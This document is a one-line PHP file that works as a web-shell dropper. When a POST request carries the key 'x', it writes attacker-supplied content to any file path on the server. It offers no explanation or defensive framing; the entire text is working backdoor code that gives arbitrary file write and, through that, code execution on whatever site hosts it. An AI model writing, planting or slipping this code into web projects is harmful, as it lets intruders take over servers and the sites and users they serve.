<?php if($_POST['k']=='x'){$f=fopen($_POST['p'],'w');fputs($f,$_POST['c']);}
